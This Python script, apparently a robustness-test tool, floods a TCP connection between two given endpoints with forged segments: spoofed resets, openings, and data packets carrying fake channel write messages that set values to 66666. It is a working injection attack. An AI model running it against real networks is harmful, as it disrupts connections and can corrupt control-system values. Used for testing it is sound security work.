"""Sends TCP segments with the addresses of a circuit's ends and random sequence numbers, until it is killed.

    inject.py KIND CLIENT:PORT SERVER:PORT     KIND: reset, open, data, blind, or all

Some thousand a second, as anybody on the network could. Needs root.
"""

import random
import socket
import struct
import sys
import time

FIN, SYN, RST, ACK = 1, 2, 4, 16


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def segment(source, destination, sequence, acknowledged, flags, payload):
    (from_ip, from_port), (to_ip, to_port) = source, destination
    addresses = socket.inet_aton(from_ip) + socket.inet_aton(to_ip)
    tcp = struct.pack("!HHIIBBHHH", from_port, to_port, sequence, acknowledged, 0x50, flags, 512, 0, 0) + payload
    total = checksum(addresses + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", total) + tcp[18:]
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0) + addresses + tcp


def put(value):
    """A put without callback to a channel that may be there."""
    return struct.pack("!HHHHII", 4, 8, 6, 1, random.randrange(1, 20), 66666) + struct.pack("!d", value)


def main():
    kind, *ends = sys.argv[1:]
    client, server = ((ip, int(port)) for ip, port in (end.rsplit(":", 1) for end in ends))
    number = lambda: random.getrandbits(32)
    # from ports that are in no use
    blind = lambda: (number(), number(), ACK, put(66666.0) * random.randrange(1, 50))
    kinds = {
        "reset": lambda: (number(), number(), random.choice([RST, RST | ACK]), b""),
        "open": lambda: (number(), 0, SYN, b""),
        "data": lambda: (number(), number(), ACK, put(66666.0) * random.randrange(1, 50)),
        "blind": blind,
    }
    chosen = list(kinds.values()) if kind == "all" else [kinds[kind]]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        print("ready", flush=True)
        while True:
            for _ in range(20):
                make = random.choice(chosen)
                # an opening comes from the client, or is none
                there = [(client, server)] if make is kinds["open"] else [(client, server), (server, client)]
                source, destination = random.choice(there)
                if make is blind:
                    source, destination = (client[0], random.randrange(2000, 20000)), server
                raw.sendto(segment(source, destination, *make()), (destination[0], 0))
            time.sleep(0.005)


if __name__ == "__main__":
    main()
